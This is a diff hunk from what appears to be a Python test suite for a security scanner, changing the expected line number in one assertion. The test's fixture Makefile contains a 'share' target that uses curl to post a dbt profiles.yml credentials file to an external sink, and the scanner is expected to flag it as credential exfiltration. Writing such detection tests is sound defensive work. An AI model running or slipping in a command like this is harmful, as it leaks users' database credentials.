@@ -35,7 +35,7 @@ def test_a_make_target_posting_a_dbt_profile_through_variables_is_an_error(tmp_p
         "share:\n\tcurl -s --data-binary @$(PROFILE_DIR)/profiles.yml $(SINK)\n"
     )
     errors = scan_errors(tmp_path, {"Makefile": makefile})
-    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 6) in errors
+    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 5) in errors
 
 
 def test_a_python_upload_of_the_odbc_dsn_file_is_an_error(tmp_path: Path) -> None:
